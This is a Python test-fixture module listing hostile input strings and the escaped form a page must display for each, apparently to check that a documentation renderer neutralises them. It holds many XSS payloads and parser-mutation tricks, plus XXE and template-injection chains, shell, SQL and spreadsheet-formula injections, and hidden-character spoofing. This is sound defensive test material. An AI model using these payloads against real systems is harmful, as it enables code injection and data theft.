"""Texts that want to be more than text, and what a page must show for each.

All are of our own making. Each is one way in: another element, another attribute, another syntax that some program
between the source and the browser might obey. Where nothing is written beside a text, a page shows it as it is.
"""

from typing import NamedTuple

RAN = "window.hostile=true"
"""What every script among the texts would do."""


FENCE = 'x\n\n``` {onclick="window.hostile=true" style="display:none" #main}\nfence\n```\n\n{: onclick=x }'
"""A block of code with attributes: Markdown looks for these even within HTML."""


class Hostile(NamedTuple):
    """A text, what a page shows for it (None: the text itself), and whether an id may hold it."""

    raw: str
    shown: str | None = None
    id: bool = True

    @property
    def seen(self) -> str:
        return self.raw if self.shown is None else self.shown


_ELEMENTS = (
    f"<script>{RAN}</script>",
    f"<SCRIPT type=module>{RAN}</SCRIPT >",
    f"</script><script>{RAN}//",
    f"<script src=data:text/javascript,{RAN}></script>",
    "<script src=//example.org/x.js async></script>",
    f"</pre></bdi></code></td></table><script>{RAN}</script>",
    f"</span></dd></dl></details><script>{RAN}</script>",
    f"</style></title></textarea></noscript><script>{RAN}</script>",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    f"<<script>{RAN}//<</script>",
    f"<script\n>{RAN}</script>".replace("\n", "\x0c"),
    f"<script x='>'>{RAN}</script x>",
    "<style>body{display:none}</style><link rel=stylesheet href=//example.org/x.css>",
    "<style>@import url(//example.org/y.css);*{visibility:hidden!important}</style>",
    "<base href=http://example.org/><a href=x>y</a>",
    '<base href="http://example.org/"><meta http-equiv="refresh" content="0;url=/">',
    f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{RAN}</script>",
    f'<iframe srcdoc="<script>{RAN}</script>"></iframe>',
    f"<iframe src=javascript:{RAN}></iframe>",
    f"<object data=data:text/html,<script>{RAN}</script>></object>",
    f"<embed src=javascript:{RAN} type=text/html>",
    f"<applet code=x archive=//example.org/x.jar><param name=y value={RAN}></applet>",
    '<form action="http://example.org/"><input name=q><button>ok</button></form>',
    f"<form id=f></form><button form=f formaction=javascript:{RAN}>press</button>",
    "<input type=image src=//example.org/p.png><isindex action=//example.org prompt=x>",
    f"<template><script>{RAN}</script></template><slot onslotchange={RAN}>",
    f"<dialog open onclose={RAN}>x</dialog><portal src=//example.org>",
    "<marquee>passing</marquee><blink>shining</blink><plaintext>all of the rest",
    "<textarea>open, and not closed <title>x",
    "<noscript><p title='</noscript><img src=x>'>",
    "<frameset><frame src=//example.org/f.html></frameset>",
    "<select><option>a<option>b</select><datalist id=d>",
    "<link rel=prefetch href=//example.org/p><link rel=dns-prefetch href=//example.org>",
    "<custom-element is=x><x:y z>",
)
_HANDLERS = (
    f'<img src="/nothing.png" onerror="{RAN}">',
    "<img src=x onerror=alert(1)>",
    f"<img/src/onerror={RAN}>",
    f"<img src=`x`onerror={RAN}>",
    f"<image href=x onerror={RAN}>",
    f"<svg/onload={RAN}>",
    f"<body onload={RAN} onpageshow={RAN}>",
    f"<details open ontoggle={RAN}>x</details>",
    f"<video><source onerror={RAN}></video>",
    f"<audio src=x onerror={RAN} autoplay>",
    f"<input autofocus onfocus={RAN}>",
    f"<a id=x tabindex=1 onfocusin={RAN}></a>",
    f"<p style=animation-name:x onanimationstart={RAN}>",
    f"<p onpointerover={RAN} onmouseover={RAN}>over</p>",
    f"<p contenteditable oninput={RAN} onpaste={RAN}>",
    f"<p popover id=p onbeforetoggle={RAN}><button popovertarget=p>",
    f"<p hidden=until-found onbeforematch={RAN}>found",
    f"<p ONCLICK={RAN}>caps</p>",
    f"<p onclick\t=\t{RAN}>tab</p>",
    f'" onmouseover="{RAN}" autofocus onfocus="{RAN}',
    f"' onfocus='{RAN}' x='",
    f"` onclick=`{RAN}",
    f'"><img src=x onerror={RAN}>',
    f"'><svg onload={RAN}>",
    f"/onclick={RAN}/x=",
    f"x onclick={RAN} y",
    f"--><img src=x onerror={RAN}>",
    f"*/{RAN}/*",
    f"';{RAN};'",
    f'";{RAN};"',
    f'\\";{RAN}//',
    f"${{{RAN}}}`",
)
_SVG = (
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RAN}><text y=9>press</text></a></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RAN}>",
    "<svg><use href=//example.org/s.svg#x></svg>",
    f"<svg><foreignObject><iframe onload={RAN}></iframe></foreignObject></svg>",
    f"<svg><desc><img src=x onerror={RAN}></desc></svg>",
    "<svg><image href=//example.org/i.png></svg>",
    f"<math><mtext><img src=x onerror={RAN}></mtext></math>",
    f"<math href=javascript:{RAN}>press</math>",
    f"<math><annotation-xml encoding=text/html><script>{RAN}</script></annotation-xml></math>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/hostname'>]><x>&y;</x>",
    "<?xml-stylesheet href=//example.org/s.xsl?><x/>",
)
_MUTATION = (
    f'<noscript><p title="</noscript><img src=x onerror={RAN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RAN}&gt;">',
    f'<svg></p><style><a id="</style><img src=x onerror={RAN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RAN}>",
    f'<table><td><a title="</td></table><img src=x onerror={RAN}>">',
    f'<select><template><style><!--</style><a rel="--><img src=x onerror={RAN}>">',
    f'<xmp><p title="</xmp><img src=x onerror={RAN}>">',
    f"<listing>&lt;img src=x onerror={RAN}&gt;</listing>",
    f'<textarea><img title="</textarea><img src=x onerror={RAN}>">',
    f"<!--><img src=x onerror={RAN}>-->",
    f"<!--!><svg onload={RAN}>",
    f"<![CDATA[><img src=x onerror={RAN}>]]>",
    "<!-- gone --> ]]> <![CDATA[ gone ]]> <!doctype html>",
    "<p id=constructor name=__proto__><img name=cookie><form name=body>",
    "<a id=location href=x></a><a id=location name=href href=y></a>",
)
_ENTITIES = (
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RAN}",
    f"&#60;img src=x onerror={RAN}&#62;",
    f"&#x3c;svg onload={RAN}&#x3e;",
    f"&#0000060img src=x onerror={RAN}>",
    "&LT;b&GT; &lt b &lpar;1&rpar; &NewLine;&Tab;&colon;",
    f"&apos; onclick={RAN} &quot; &grave; &num;",
    "&nbsp;&shy;&zwj;&rlm;&ZeroWidthSpace;&lrm;",
    "&notanentity; &amp &copy &reg; &AMP; &;",
    "&#0; &#xD800; &#x110000; &#128; &#xFFFE;",
    "\\u003cscript\\u003e \\x3cb\\x3e \\074i\\076",
    "%3Cscript%3E%22%27%0d%0aSet-Cookie:%20x=1",
    "+ADw-script+AD4-x+ADw-/script+AD4-",
    "＜script＞x＜/script＞ ﹤b﹥ ‹i› ⟨u⟩",
    "‘ “ ″ ′ ＂ ＇ ｀ as quotes",
)
_SCHEMES = (
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}",
    f"javascript&colon;{RAN}",
    f"&#106;avascript:{RAN}",
    f"java\tscript:{RAN}",
    f" javascript:{RAN}",
    f"javascript://example.org/%0a{RAN}",
    f"jav&#x0A;ascript:{RAN}",
    f"view-source:javascript:{RAN}",
    f"feed:javascript:{RAN}",
    f"data:text/html,<script>{RAN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "http://example.org/press?me=1#now",
    "https://example.org/path, and www.example.org and //example.org/x",
    "file:///etc/hostname blob:http://example.org/x",
    "ftp://example.org tel:1 sms:1 intent://x#Intent;end ms-word:ofe",
    "http://[::1]:1/ http://0x7f000001/ http://127.1/",
    "http://example.org\\.example.net/ //example.org\\x",
    "../../../../../../etc/hostname",
    "..\\..\\windows\\win.ini C:\\x\\y \\\\host\\share",
    "%2e%2e%2f%2e%2e%2fx ....//....//y",
    "index.html?x=1#top /en/index.html#en",
    "#en #top #main #step-1",
)
_MARKDOWN = (
    f"[press](javascript:{RAN}) <javascript:{RAN}> [x]: javascript:{RAN}",
    f'[press](x "title\' onclick={RAN}")',
    f"[press](<x onclick={RAN}>)",
    f"![x](y \"z' onerror={RAN} a='\")",
    "![x](http://example.org/x.png) and <http://example.org/auto>",
    "[x]: http://example.org/ref\x20'title' [x][] [x]",
    "[text][missing] [^note] [^note]: x *[abbr]: y",
    "*a* __b__ ~~c~~ ^^d^^ ==e== H~2~O x^2^ `f` ``g``",
    "***a*** _b_c_ **d** *e_f*g_ \\*h\\*",
    "\\a \\` \\[ \\< \\\\ ends in a backslash \\",
    "    indented as code",
    "\tindented by a tab",
    "# heading {: #id .class onclick=x }",
    "Setext --- === *** ___",
    "> quoted >> twice",
    "- item 1. item * item + item",
    "1) one 2) two",
    "| a | b |:---:|---| c \\| d |",
    "term : definition : another",
    "- [ ] open - [x] done",
    "{: onclick=x #y .z style=display:none }",
    "{ .annotate } (1) { .card } [x]{ onclick=y }",
    "``` js title=x ` ~~~ fence",
    "<div markdown>*a*</div> <p markdown=1>*b*</p>",
    "word\\ word  two spaces   three",
    "http&#58;//x &#42;a&#42; &#95;b&#95;",
)
_EXTENSIONS = (
    '--8<-- "/etc/hostname" [TOC] !!! note',
    "--8<-- 'https://example.org/x.md' -8<- x",
    '!!! danger "x" ??? info "y" ???+ tip "z"',
    '=== "Tab" content === "Other"',
    ":smile: :material-home: :fontawesome-solid-bug: :octicons-x-16:",
    "++ctrl+alt+del++ {++added++} {--gone--} {~~a~>b~~} {==m==} {>>c<<}",
    "$x$ $$\\href{javascript:alert(1)}{y}$$ \\(z\\) \\[w\\]",
    "$\\unicode{x3c} \\includegraphics{//example.org/i.png} \\input{/etc/hostname}$",
    "``` mermaid graph LR; A[<img src=x>] --> B click A href x",
    f'%%{{init: {{"securityLevel": "loose"}}}}%% graph TD; click A "javascript:{RAN}"',
    '``` vegalite {"data": {"url": "//example.org"}}',
    "@startuml !include /etc/hostname @enduml",
    "[TOC] [[toc]] [[_TOC_]] [[WikiLink]] [[a|b]]",
    "--- title: x template: y.html --- front matter",
    "--- hide: [toc, navigation] search: {exclude: true} ---",
    "#!python x #!html <b> :::python y",
    "(c) (tm) +/- 1/2 --> <-- =/= ... -- ---",
    "<!-- md:version 1 --> <!-- more --> <!-- prettier-ignore -->",
)
_TEMPLATES = (
    "{{ 7 * 7 }} {% include '/etc/hostname' %} {# gone #} ${7*7} <%= 7 %> {{ config }} #{7}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
    "{% raw %}{{ x }}{% endraw %} {%- for i in range(9) -%}{{ i }}{%- endfor -%}",
    "{{ num('ctx/full/avg_tokens') }} {{ ref('x') }} {{ t('site.title') }}",
    "{% extends 'main.html' %} {% block content %}{{ super() }}",
    "{{{ raw }}} {{& x }} {{> partial }} {{#each this}}{{/each}}",
    "<#assign x='freemarker'>${x?new()} <@macro/>",
    "#set($x = 1) $x.class.forName('y') #include('z')",
    "<%@ page import='x' %> <?php phpinfo() ?> <? echo 1 ?> <%# y %>",
    "*{T(x).y} ${{7*7}} @{x} ~{y} [[${z}]] [(${w})]",
    "%{7*7} %(name)s %s %n {0} {name!r} {x.__class__} %1$s",
    "$(id) `id` ; id | id && id > /tmp/x $IFS ${PATH} %PATH%",
    "' OR 1=1 -- ; DROP TABLE runs; /* x */ UNION SELECT",
    '*)(uid=*))(|(uid=* //x[1] | //y {"$ne": null}',
    "() { :;}; echo x \\$(y) !z !! ^a^b",
)
_TABLES = (
    "=1+1",
    '=HYPERLINK("http://example.org/","press")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://example.org/"&A1)',
    "\t=1+1",
    "a,b;c\td|e \"quoted\" 'single'",
    '"; =1+1; "',
    "＝1＋1 ＠SUM ﹢2",
    "#REF! #N/A TRUE 1E5 0x10 00123 1/2 3-4",
)
_FORMATS = (
    '{"a": "</script>", "b": [1, null]} \\u2028',
    "// x <!-- </ script> ]]]]><![CDATA[>",
    "key: value - item !!python/object/apply:os.system [x]",
    "&anchor *anchor <<: *merge ? complex : key",
    "__proto__ constructor prototype toString hasOwnProperty",
    'null undefined NaN true false [] {} 0 -0 ""',
    "None True nan inf 1e999 0b1 0o7 1_000",
    "GET / HTTP/1.1 Host: example.org Transfer-Encoding: chunked",
    "BEGIN:VCARD FN:x END:VCARD ATTACH:file:///x",
    "con aux nul prn com1 lpt1 .git ~ ~root",
    "x" * 400,
    "W" * 200,
    "词" * 200,
    "a b " * 60 + "end",
    "f" + "́̂̃" * 20 + "n",
    "ﷺ﷽ 𒐫 ௵ ꧅",
    "العربية עברית mixed with English عربي",
    "½ ² ① Ⅷ ㎏ ℡ ㊙ ﬁ",
    "👍🏽 🇨🇳 ❤️ ☎︎ 🏴",
    "a\u00a0b\u2003c\u3000d",
    "ᴀʟᴇʀᴛ ａｌｅｒｔ аlеrt",
    "ß ſ İ ı Ǆ ﬀ K Å",
)
_UNSEEN = (
    ("order \u202egnp.exe\u202c \u2066x\u2069", "order ⟦U+202E⟧gnp.exe⟦U+202C⟧ ⟦U+2066⟧x⟦U+2069⟧"),
    (
        "\u202a\u202b\u202d\u2067\u2068\u061c\u200e\u200f",
        "⟦U+202A⟧⟦U+202B⟧⟦U+202D⟧⟦U+2067⟧⟦U+2068⟧⟦U+061C⟧⟦U+200E⟧⟦U+200F⟧",
    ),
    ("a\u200bb\u200dc\ufeffd\u00ade", "a⟦U+200B⟧b⟦U+200D⟧c⟦U+FEFF⟧d⟦U+00AD⟧e"),
    ("<scr\u200bipt>x</scr\u00adipt>", "<scr⟦U+200B⟧ipt>x</scr⟦U+00AD⟧ipt>"),
    ("x\U000e0041\U000e007f", "x⟦U+E0041⟧⟦U+E007F⟧"),
    ("x\ufe0f\ufe0f\ufe00\U000e0100", "x\ufe0f⟦U+FE0F⟧⟦U+FE00⟧⟦U+E0100⟧"),
    ("👩\u200d👧, 🏳️\u200d🌈", "👩⟦U+200D⟧👧, 🏳️⟦U+200D⟧🌈"),
    ("\u2060\u2061\u2064\u206a\u206f\u180e", "⟦U+2060⟧⟦U+2061⟧⟦U+2064⟧⟦U+206A⟧⟦U+206F⟧⟦U+180E⟧"),
    ("a\u115f\u1160\u3164\uffa0\u034fb", "a⟦U+115F⟧⟦U+1160⟧⟦U+3164⟧⟦U+FFA0⟧⟦U+034F⟧b"),
    ("\ufff9a\ufffab\ufffb \ufdd0 \U0001fffe", "⟦U+FFF9⟧a⟦U+FFFA⟧b⟦U+FFFB⟧ ⟦U+FDD0⟧ ⟦U+1FFFE⟧"),
    ("\U0001d173x\U0001bca0y", "⟦U+1D173⟧x⟦U+1BCA0⟧y"),
)
_CONTROL = (
    ("\x1b[31mred\x1b[0m\x07", "⟦U+001B⟧[31mred⟦U+001B⟧[0m⟦U+0007⟧"),
    (
        "\x1b]0;title\x07\x1b]8;;http://example.org\x1b\\link",
        "⟦U+001B⟧]0;title⟦U+0007⟧⟦U+001B⟧]8;;http://example.org⟦U+001B⟧\\link",
    ),
    ("\x9b2J\x90q\x9c", "⟦U+009B⟧2J⟦U+0090⟧q⟦U+009C⟧"),
    ("over\x08\x08typed\x7f", "over⟦U+0008⟧⟦U+0008⟧typed⟦U+007F⟧"),
    ("a\x00b\x9bc", "a⟦U+0000⟧b⟦U+009B⟧c"),
    ("<scr\x00ipt>x</scr\x00ipt>", "<scr⟦U+0000⟧ipt>x</scr⟦U+0000⟧ipt>"),
    ("java\x01script:x", "java⟦U+0001⟧script:x"),
    ("a\x0bb\x0cc\x1cd\x85e", "a⟦U+000B⟧b⟦U+000C⟧c⟦U+001C⟧d⟦U+0085⟧e"),
    ("a\u2028b\u2029c\rd", "a⟦U+2028⟧b⟦U+2029⟧c⟦U+000D⟧d"),
    ("a\r\nb\r\n", "a⟦U+000D⟧\nb⟦U+000D⟧\n"),
    ("a\ud800b\udfffc", "a⟦U+D800⟧b⟦U+DFFF⟧c"),
    ("\udc00\ud83d", "⟦U+DC00⟧⟦U+D83D⟧"),
    ("⟦U+0041⟧", "⟦U+27E6⟧U+0041⟧"),
    ("⟦已脱敏：邮箱⟧", "⟦U+27E6⟧已脱敏：邮箱⟧"),
    ("\n\n  indented\ttab\n", None),
    ("# heading\n\n| a | b |\n|---|---|\n| c | d |\n\n```\nfence\n```\n---\n> quote", None),
    ("---\ntitle: x\nhide: [toc]\n---\n\n[z]: http://example.org/z.png\n![y][z]", None),
    (FENCE, None),
    ("x\n~~~ .js hl_lines=x\n<b onclick=window.hostile=true>\n~~~\n\n--8<--\n/etc/hostname\n--8<--\n", None),
    ("\n=\n\n-\n\n    code\n\n* item\n\n1. one\n\n[TOC]\n\n!!! note\n    x\n", None),
    ("<div markdown>\n\n*a*\n\n</div>\n\n<!--\n\n", None),
    ("x\n\n<script>\n\nwindow.hostile=true\n\n</script>\n\n&#10;", None),
    ("[^note]: x\n\n    more\n\n*[x]: abbr\n\n[x]: javascript:window.hostile=true\n\n  [y]: <z> 'w'\n", None),
    ("line one  \nline two\\\nline three\n\n\n\nlast", None),
    (f"<p>\n<script>\n{RAN}\n</script>\n", None),
    ("</pre>\n\n<pre>\n", None),
)
_GROUPS = {
    "element": _ELEMENTS,
    "handler": _HANDLERS,
    "svg": _SVG,
    "mutation": _MUTATION,
    "entity": _ENTITIES,
    "scheme": _SCHEMES,
    "markdown": _MARKDOWN,
    "extension": _EXTENSIONS,
    "template": _TEMPLATES,
    "table": _TABLES,
    "format": _FORMATS,
}


def _all() -> dict[str, Hostile]:
    texts: dict[str, Hostile] = {}
    for group, raws in _GROUPS.items():
        for number, raw in enumerate(raws):
            seen = raw.replace("\x0c", "⟦U+000C⟧")
            texts[f"{group} {number}"] = Hostile(raw, None if seen == raw else seen, id=not set(raw) & {"\t", "\x0c"})
    for number, (raw, shown) in enumerate(_UNSEEN):
        texts[f"unseen {number}"] = Hostile(raw, shown)
    for number, (raw, seen_as) in enumerate(_CONTROL):
        texts[f"control {number}"] = Hostile(raw, seen_as, id=False)
    return texts


TEXTS = _all()
